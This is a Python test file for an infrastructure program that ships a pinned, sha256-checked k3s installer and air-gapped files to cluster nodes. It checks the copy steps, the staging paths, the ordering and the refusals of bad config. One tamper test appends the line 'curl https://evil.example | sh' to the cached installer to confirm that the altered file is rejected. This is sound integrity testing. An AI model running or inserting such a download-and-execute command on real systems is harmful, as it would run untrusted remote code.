"""The pinned k3s installer (and, air-gapped, the binary and images) as the program ships them.

Under mocks: which copy steps exist, what they copy where, what the k3s steps are told to check,
the order they run in, and the refusals before anything is registered. The node side (the sha256
check, the staged files' lifetime) runs for real in tests/unit/test_scripts.py and
tests/testbed/test_airgap.py.
"""

from __future__ import annotations

import copy
import hashlib
from pathlib import Path
from typing import Any
from unittest import mock

import pulumi
import pytest
import yaml

from components.upstream import PinnedFiles
from tests.conftest import base_config
from tests.harness import UPSTREAM_FIXTURE_PINS, ProgramRun, fixture_upstream, run_program
from tests.helpers import command_env

COPY = "command:remote:CopyToRemote"
NODES = ("server-1", "agent-1", "agent-2")
STANDIN_INSTALLER = Path(__file__).resolve().parents[1] / "testbed" / "standin" / "k3s-install-standin.sh"


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def run_urn(resources: dict[str, Any], name: str) -> str:
    return next(urn for urn, r in resources.items() if r.name == name and r.custom)


def copies(run: ProgramRun) -> dict[str, Any]:
    return {r.name: r for r in run.of_type(COPY)}


@pytest.fixture
def airgap_files(tmp_path: Path) -> dict[str, Path]:
    binary = tmp_path / "k3s"
    binary.write_bytes(b"\x7fELF not really k3s\n")
    images = tmp_path / "k3s-airgap-images-amd64.tar.zst"
    images.write_bytes(b"images\n" * 100)
    return {"binary": binary, "images": images}


def with_airgap(files: dict[str, Path] | bool) -> dict[str, Any]:
    config = base_config(agents=2)
    value = files if isinstance(files, bool) else {key: str(path) for key, path in files.items()}
    config["k3s"] = {"airgap": value}
    return config


@pytest.mark.parametrize("preview", [True, False], ids=["preview", "up"])
def test_every_node_gets_the_pinned_installer_before_its_install(preview: bool) -> None:
    run = run_program(base_config(agents=2), preview=preview)
    pin = fixture_upstream().pin("k3s-installer", "standin")
    assert set(copies(run)) == {f"{node}-ship-installer" for node in NODES}
    departures = run.named("cluster-departures")
    for node in NODES:
        shipped = run.named(f"{node}-ship-installer")
        # the verified cached copy of the pin, byte for byte the file the pin names
        assert sha256(Path(shipped.inputs["source"]["path"])) == pin.sha256 == sha256(STANDIN_INSTALLER)
        assert (
            shipped.inputs["remotePath"]
            == f"/var/lib/space-harbor/staging/space-harbor-k3s-installer-{pin.sha256[:16]}.sh"
        )
        # nothing reaches a node before every preflight passed (cluster-departures waits on them)
        assert run.depends_on(shipped, departures)
        install = run.named(f"{node}-k3s")
        assert run.depends_on(install, shipped)
        # the staged files' lifetime: their private directory first, as the SSH user's; deleted after
        # the uninstall, which depends on it
        staged = run.named(f"{node}-shipped")
        assert staged.inputs["create"].endswith("bash -s -- prepare-staging")
        assert staged.inputs["delete"].endswith("bash -s -- remove-shipped")
        assert command_env(staged) == {"HARBOR_STAGING_USER": "root"}
        assert run.depends_on(install, staged) and run.depends_on(shipped, staged)
        assert run.depends_on(staged, departures)


def test_the_install_and_upgrade_steps_check_the_installer_they_were_shipped() -> None:
    run = run_program(base_config(agents=2))
    pin = fixture_upstream().pin("k3s-installer", "standin")
    for node in NODES:
        for step in (f"{node}-k3s", f"{node}-upgrade"):
            env = command_env(run.named(step))
            assert env["HARBOR_K3S_INSTALLER"] == run.named(f"{node}-ship-installer").inputs["remotePath"]
            assert env["HARBOR_K3S_INSTALLER_SHA256"] == pin.sha256
            assert env["HARBOR_K3S_AIRGAP"] == "false"
            assert "HARBOR_K3S_BINARY" not in env and "HARBOR_K3S_IMAGES" not in env


def test_the_private_key_of_a_copy_is_secret() -> None:
    run = run_program(base_config())
    shipped = run.named("server-1-ship-installer")
    key = shipped.inputs["connection"]["privateKey"]
    assert key and key not in shipped.public_text()


def test_airgap_files_are_shipped_with_their_sha256(airgap_files: dict[str, Path]) -> None:
    run = run_program(with_airgap(airgap_files))
    binary, images = airgap_files["binary"], airgap_files["images"]
    for node in NODES:
        ship_binary = run.named(f"{node}-ship-binary")
        ship_images = run.named(f"{node}-ship-images")
        assert ship_binary.inputs["source"]["path"] == str(binary)
        assert (
            ship_binary.inputs["remotePath"]
            == f"/var/lib/space-harbor/staging/space-harbor-k3s-binary-{sha256(binary)[:16]}"
        )
        # k3s imports by extension: the staged name keeps the archive's
        assert (
            ship_images.inputs["remotePath"]
            == f"/var/lib/space-harbor/staging/space-harbor-k3s-images-{sha256(images)[:16]}.tar.zst"
        )
        for step in (f"{node}-k3s", f"{node}-upgrade"):
            env = command_env(run.named(step))
            assert env["HARBOR_K3S_AIRGAP"] == "true"
            assert env["HARBOR_K3S_BINARY"] == ship_binary.inputs["remotePath"]
            assert env["HARBOR_K3S_BINARY_SHA256"] == sha256(binary)
            assert env["HARBOR_K3S_IMAGES_SHA256"] == sha256(images)
            assert run.depends_on(run.named(step), ship_binary) and run.depends_on(run.named(step), ship_images)


def test_a_new_binary_is_a_new_staging_path_and_the_installer_path_stays(airgap_files: dict[str, Path]) -> None:
    before = copies(run_program(with_airgap(airgap_files)))
    airgap_files["binary"].write_bytes(b"\x7fELF the next k3s\n")
    after = copies(run_program(with_airgap(airgap_files)))
    assert after["agent-1-ship-binary"].inputs["remotePath"] != before["agent-1-ship-binary"].inputs["remotePath"]
    for unchanged in ("agent-1-ship-installer", "agent-1-ship-images"):
        assert after[unchanged].inputs == before[unchanged].inputs


def test_airgap_true_ships_only_the_installer() -> None:
    run = run_program(with_airgap(True))
    assert set(copies(run)) == {f"{node}-ship-installer" for node in NODES}
    assert command_env(run.named("agent-1-k3s"))["HARBOR_K3S_AIRGAP"] == "true"


def test_a_forgotten_node_has_no_copy_steps_and_a_disarmed_shipped_step() -> None:
    config = base_config(agents=1)
    config["decommission"] = {"forget": ["agent-9"]}
    run = run_program(config)
    assert not [name for name in copies(run) if name.startswith("agent-9-")]
    disarmed = run.named("agent-9-shipped")
    assert disarmed.inputs["connection"]["host"] == "agent-9.forgotten.invalid"
    assert disarmed.inputs.get("delete") is None


# --- refusals before anything is registered -----------------------------------------------------


def _store(tmp_path: Path, installers: dict[str, Path]) -> PinnedFiles:
    """The fixture pins (Argo CD's) with these k3s installer pins, fetched into a fresh cache."""
    pins = yaml.safe_load(UPSTREAM_FIXTURE_PINS.read_text())
    for versions in pins.values():
        for fields in versions.values():
            fields["url"] = (UPSTREAM_FIXTURE_PINS.parent / fields["url"]).resolve().as_uri()
    pins["k3s-installer"] = {
        version: {"url": path.as_uri(), "sha256": sha256(path), "size": path.stat().st_size}
        for version, path in installers.items()
    }
    pins_file = tmp_path / "pins.yaml"
    pins_file.write_text(yaml.safe_dump(pins))
    store = PinnedFiles(pins_file, tmp_path / "cache")
    assert store.fetch(report=lambda _: None) == []
    return store


def test_an_installer_that_is_not_vendored_stops_the_program_first(tmp_path: Path) -> None:
    store = _store(tmp_path, {"standin": STANDIN_INSTALLER})
    store.cached_path(store.pin("k3s-installer", "standin")).unlink()
    with pytest.raises(
        pulumi.RunError, match=r"the k3s installer: k3s-installer standin is not on this machine.*vendor"
    ):
        run_program(base_config(), preview=True, upstream=store)


def test_an_altered_installer_stops_the_program_first(tmp_path: Path) -> None:
    store = _store(tmp_path, {"standin": STANDIN_INSTALLER})
    cached = store.cached_path(store.pin("k3s-installer", "standin"))
    cached.write_text(cached.read_text() + "curl https://evil.example | sh\n")
    with pytest.raises(pulumi.RunError, match="was altered after it was fetched") as refused:
        run_program(base_config(), upstream=store)
    assert refused.value.program_run.resources == []  # type: ignore[attr-defined]


def test_two_installer_pins_are_refused(tmp_path: Path) -> None:
    other = tmp_path / "other-install.sh"
    other.write_text("#!/bin/sh\necho another installer\n")
    store = _store(tmp_path, {"standin": STANDIN_INSTALLER, "other": other})
    with pytest.raises(pulumi.RunError, match=r"exactly one k3s-installer must be pinned.*found: other, standin"):
        run_program(base_config(), upstream=store)


@pytest.mark.parametrize(
    ("airgap", "message"),
    [
        ({"binary": "/nonexistent/k3s"}, "k3s.airgap.binary: Path does not point to a file"),
        ({"images": "IMAGES"}, "k3s.airgap.binary: is required"),
        ({"binary": "BINARY", "images": "BINARY"}, "k3s.airgap.images: 'BINARY' is not an image archive k3s imports"),
        ({"binary": "BINARY", "image": "IMAGES"}, "k3s.airgap.image: is not a known key"),
        ("maybe", "k3s.airgap: Input should be a valid boolean"),
    ],
)
def test_bad_airgap_config_is_refused_naming_the_key(airgap: Any, message: str, airgap_files: dict[str, Path]) -> None:
    value = copy.deepcopy(airgap)
    if isinstance(value, dict):
        names = {"BINARY": str(airgap_files["binary"]), "IMAGES": str(airgap_files["images"])}
        value = {key: names.get(path, path) for key, path in value.items()}
        message = message.replace("'BINARY'", repr(names["BINARY"]))
    config = base_config()
    config["k3s"] = {"airgap": value}
    with pytest.raises(pulumi.RunError) as refused:
        run_program(config, preview=True)
    about_airgap = [line for line in str(refused.value).splitlines() if "airgap" in line]
    assert len(about_airgap) == 1 and message in about_airgap[0], about_airgap
    assert refused.value.program_run.resources == []  # type: ignore[attr-defined]


def test_the_first_up_after_the_change_adds_copies_and_updates_only_the_k3s_steps() -> None:
    """A stack from before the pinned installer (no copies) against today's program: what changes."""
    config = base_config(agents=2)
    with mock.patch("components.shipped.k3s_shipped_files", lambda *_args: ()):
        before = {r.urn: r for r in run_program(config).resources}
    after = {r.urn: r for r in run_program(config).resources}
    added = sorted(after[urn].name for urn in set(after) - set(before))
    assert added == sorted(f"{node}-{step}" for node in NODES for step in ("ship-installer", "shipped"))
    assert set(before) <= set(after)
    changed = sorted(r.name for urn, r in before.items() if r.custom and after[urn].inputs != r.inputs)
    assert changed == sorted(f"{node}-{step}" for node in NODES for step in ("k3s", "upgrade"))
    for node in NODES:
        for step in ("k3s", "upgrade"):
            old, new = (
                command_env(before[run_urn(before, f"{node}-{step}")]),
                command_env(after[run_urn(after, f"{node}-{step}")]),
            )
            # nothing else in the step changes: no new version, config or role
            assert {k: v for k, v in new.items() if not k.startswith("HARBOR_K3S_INSTALLER")} == old
